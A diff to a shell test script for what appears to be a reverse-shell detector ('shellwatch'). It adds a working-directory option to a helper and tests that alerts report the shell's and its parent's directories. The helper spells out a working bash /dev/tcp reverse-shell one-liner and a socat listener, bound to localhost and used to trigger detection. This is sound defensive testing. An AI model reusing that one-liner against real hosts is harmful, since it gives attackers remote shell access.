@@ -24,14 +24,19 @@ has_alert_for() { alerts_for "$@" >/dev/null; }
 # field JSON KEY: one field of a JSON line, by its dotted name (tests/shells/ecs_flat.py).
 field() { python3 -c 'import json,sys; sys.path.insert(0, sys.argv[3]); from ecs_flat import field; v=field(json.loads(sys.argv[1]), sys.argv[2]); print(",".join(v) if isinstance(v,list) else v)' "$1" "$2" "$SW_ROOT/tests/shells"; }
 
-# reverse_shell PORT [CMD]: a listener that sends CMD (default: a marker and exit), then the shell.
+# reverse_shell PORT [CMD [DIR]]: a listener that sends CMD (default: a marker and exit), then
+# the shell; with DIR, the shell and the `bash -c` that starts it are exec'd in DIR.
 reverse_shell() {
-	local port=$1 cmd=${2:-'echo remote-$((6*7)); exit'}
+	local port=$1 cmd=${2:-'echo remote-$((6*7)); exit'} dir=$3
 	printf '%s\n' "$cmd" | socat -t 5 TCP-LISTEN:"$port",bind=127.0.0.1,reuseaddr STDIO \
 		>"$SW_TMP/listener.$port" 2>&1 &
 	LISTENER_PID=$!
 	wait_until 10 listening "$port" || return 1
-	bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null &
+	if [ -n "$dir" ]; then
+		(cd "$dir" && exec bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1; :") 2>/dev/null &
+	else
+		bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null &
+	fi
 	SHELL_PID=$!
 }
 
@@ -96,6 +101,25 @@ port2=$(free_port)
 reverse_shell "$port2"
 check "after rotation the next alert lands in the new file" wait_until 5 has_alert_for "$out" "$port2"
 wait_until 10 pid_gone "$SHELL_PID" 2>/dev/null || true
+
+# The working directory, read in the kernel at the exec: the shell's and its parent's. One with a
+# space in its name (on the root file system), one on another mount (/dev/shm, a tmpfs): the
+# kernel's walk up the path crosses to the mount point.
+shm=$(mktemp -d /dev/shm/sw-cwd.XXXXXX)
+for dir in "$(mktemp -d "$SW_TMP/cwd dir.XXXXXX")" "$shm/sub dir"; do
+	mkdir -p "$dir"
+	dir=$(realpath "$dir")
+	portc=$(free_port)
+	reverse_shell "$portc" 'exit' "$dir"
+	check "an alert for the shell started in $dir" wait_until 5 has_alert_for "$out" "$portc"
+	a=$(alerts_for "$out" "$portc" | head -1)
+	check "process.working_directory is the shell's directory ($(field "$a" process.working_directory))" \
+		test "$(field "$a" process.working_directory)" = "$dir"
+	check "process.parent.working_directory is its parent's ($(field "$a" process.parent.working_directory))" \
+		test "$(field "$a" process.parent.working_directory)" = "$dir"
+	wait_until 10 pid_gone "$SHELL_PID" 2>/dev/null || true
+done
+rm -rf "$shm"
 run_stop
 check "run exits 0 on SIGTERM" test $? -eq 0
 check "run prints its counts on stderr" grep -qE '^shellwatch run: [0-9]+ events, .* dropped;' "$SW_TMP/run.err"
